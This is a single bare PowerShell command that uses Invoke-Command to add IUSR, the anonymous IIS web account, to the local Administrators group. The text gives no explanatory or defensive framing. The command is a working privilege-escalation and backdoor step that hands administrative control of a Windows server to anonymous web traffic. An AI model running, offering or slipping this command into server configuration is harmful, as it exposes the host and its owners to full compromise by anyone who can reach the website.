Invoke-Command -ScriptBlock { param($account) net localgroup Administrators $account /add } -ArgumentList 'IUSR'
